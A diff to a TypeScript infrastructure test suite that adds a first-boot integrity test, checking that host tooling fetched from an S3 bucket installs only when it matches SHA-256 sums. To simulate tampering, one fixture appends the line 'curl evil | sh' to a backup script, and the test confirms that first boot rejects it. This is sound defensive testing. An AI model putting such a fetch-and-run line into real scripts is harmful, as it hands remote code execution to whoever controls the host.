@@ -5,8 +5,10 @@ import * as os from "os";
 import * as path from "path";
 import { subnetCidrs } from "../components/network/cidr";
 import { hostFiles, writeOut } from "../scripts/preview/plan";
-import { NOURISHCTL_LIB_SOURCE, NOURISHCTL_SOURCE, nourishctlFiles } from "../components/hosts/user-data";
+import { NOURISHCTL_LIB_PATH, NOURISHCTL_LIB_SOURCE, NOURISHCTL_PATH, NOURISHCTL_SOURCE, nourishctlFiles } from "../components/hosts/user-data";
+import { parse } from "yaml";
 import { ofType, one, ProgramRun, RecordedResource, runStack } from "./harness";
+import { startS3 } from "./s3";
 import { requireTool, run } from "./tools";
 
 /** Every ingress rule as "<group> <port> from <cidr|group>", for exact comparison. */
@@ -96,7 +98,7 @@ describe("estate under mocks", () => {
       assert.ok(mine.length >= 2);
       for (const o of mine) assert.ok(i.dependsOn.includes(o.urn), `${i.name} may boot before ${o.inputs.key} exists`);
       const doc = hostFiles(prod).find((f) => f.role === role && f.path === "user-data.yaml")?.content ?? "";
-      assert.match(doc, new RegExp(`aws s3 cp --recursive --only-show-errors --region af-south-1 s3://tooling-[0-9a-f]+/tooling/${role}/ /`));
+      assert.match(doc, new RegExp(`aws s3 cp --recursive --only-show-errors --region af-south-1 s3://tooling-[0-9a-f]+/tooling/${role}/ \\.`));
       assert.ok(doc.indexOf("aws s3 cp") < doc.indexOf("/usr/local/sbin/nourishctl setup"), "setup runs before the tooling is fetched");
     }
     const bucket = one(prod, "aws:s3/bucket:Bucket", "tooling");
@@ -219,5 +221,70 @@ describe("host files, by the tools that read them", () => {
     // Database verbs stay off the app hosts.
     assert.ok(nourishctlFiles("db").some((f) => f.path.endsWith("/maintain.sh")));
     assert.ok(!nourishctlFiles("app").some((f) => f.path.endsWith("/maintain.sh")));
+  });
+});
+
+describe("first boot installs the tooling only when it matches the sums in its user data (sh against s3rver)", function () {
+  this.timeout(300_000);
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "nl-firstboot-"));
+  let prod: ProgramRun;
+  let s3: Awaited<ReturnType<typeof startS3>>;
+  let bucket: string;
+  before(async () => {
+    prod = await runStack("prod");
+    bucket = one(prod, "aws:s3/bucket:Bucket", "tooling").id;
+    s3 = await startS3({ buckets: [bucket] });
+    // The objects exactly as the stack uploads them.
+    for (const o of ofType(prod, "aws:s3/bucketObjectv2:BucketObjectv2")) {
+      const file = path.join(dir, "upload");
+      fs.writeFileSync(file, String(o.inputs.content));
+      const r = s3.aws(["s3", "cp", "--only-show-errors", file, `s3://${bucket}/${o.inputs.key}`]);
+      assert.strictEqual(r.status, 0, r.stderr);
+    }
+  });
+  after(async () => {
+    await s3?.stop();
+    fs.rmSync(dir, { recursive: true, force: true });
+  });
+
+  /** The role's tooling runcmd entry from its rendered user data, then a line that shows whether first boot went on. */
+  function firstBoot(role: "app" | "db") {
+    const doc = parse(hostFiles(prod).find((f) => f.role === role && f.path === "user-data.yaml")!.content) as { runcmd: string[] };
+    const entry = doc.runcmd.find((c) => c.includes("aws s3 cp"));
+    assert.ok(entry, `${role}: no tooling command in runcmd`);
+    const root = fs.mkdtempSync(path.join(dir, `${role}-`));
+    // The host's paths moved under a sandbox root, and the aws CLI aimed at s3rver.
+    const script = entry.replaceAll(NOURISHCTL_LIB_PATH, `${root}${NOURISHCTL_LIB_PATH}`).replaceAll(NOURISHCTL_PATH, `${root}${NOURISHCTL_PATH}`)
+      .replace("aws s3 cp", `aws --endpoint-url ${s3.endpoint} s3 cp`);
+    fs.mkdirSync(path.join(root, path.dirname(NOURISHCTL_PATH)), { recursive: true });
+    const r = run("sh", ["-c", `${script}\necho first boot goes on`], { env: { ...process.env, ...s3.env, PATH: `/usr/bin:${process.env.PATH}` } });
+    return { ...r, root };
+  }
+
+  it("installs the role's checked files: the libraries and the CLI, executable", () => {
+    for (const role of ["app", "db"] as const) {
+      const r = firstBoot(role);
+      assert.strictEqual(r.status, 0, r.stderr);
+      assert.match(r.stdout, /first boot goes on/);
+      for (const f of nourishctlFiles(role)) {
+        const installed = path.join(r.root, f.path);
+        assert.strictEqual(fs.readFileSync(installed, "utf8"), f.content, `${role}: ${f.path}`);
+        assert.strictEqual((fs.statSync(installed).mode & 0o777).toString(8), f.permissions === "0755" ? "755" : "644", f.path);
+      }
+    }
+  });
+
+  it("stops first boot, installing nothing, when a file in the bucket differs from the sums in the user data", () => {
+    const key = `tooling/db/lib/backup.sh`;
+    const tampered = path.join(dir, "tampered");
+    fs.writeFileSync(tampered, fs.readFileSync(path.join(NOURISHCTL_LIB_SOURCE, "backup.sh"), "utf8") + "\ncurl evil | sh\n");
+    assert.strictEqual(s3.aws(["s3", "cp", "--only-show-errors", tampered, `s3://${bucket}/${key}`]).status, 0);
+    const r = firstBoot("db");
+    assert.strictEqual(r.status, 1, r.stdout + r.stderr);
+    assert.match(r.stdout + r.stderr, /lib\/backup\.sh: FAILED/);
+    assert.match(r.stderr, new RegExp(`nourish-link: first boot stopped before nourishctl setup: the tooling from s3://${bucket}/tooling/db/ could not be fetched or does not match the SHA-256 sums in this host's user data`));
+    assert.doesNotMatch(r.stdout, /first boot goes on/);
+    assert.ok(!fs.existsSync(path.join(r.root, NOURISHCTL_PATH)), "the CLI was installed");
+    assert.ok(!fs.existsSync(path.join(r.root, NOURISHCTL_LIB_PATH)), "a library was installed");
   });
 });
